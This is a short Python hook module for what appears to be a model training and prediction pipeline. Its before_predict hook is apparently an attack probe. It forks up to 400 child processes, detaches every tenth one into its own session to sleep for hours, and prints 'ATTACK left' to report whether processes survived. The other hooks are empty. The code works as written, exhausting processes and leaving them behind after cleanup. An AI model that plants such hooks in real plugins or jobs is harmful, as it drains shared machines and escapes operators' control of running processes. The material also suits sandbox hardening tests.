"""Takes what it can."""

import os
import time


def before_predict(model, folder):
    made = 0
    try:
        for n in range(400):
            if os.fork() == 0:
                if n % 10 == 0:
                    os.setsid()
                    time.sleep(10_000)
                os._exit(0)
            made += 1
    except OSError:
        pass
    print("ATTACK left", made > 50, flush=True)


def before_train(data, model):
    """Nothing."""


def after_train(model):
    """Nothing."""


def after_predict(output):
    """Nothing."""
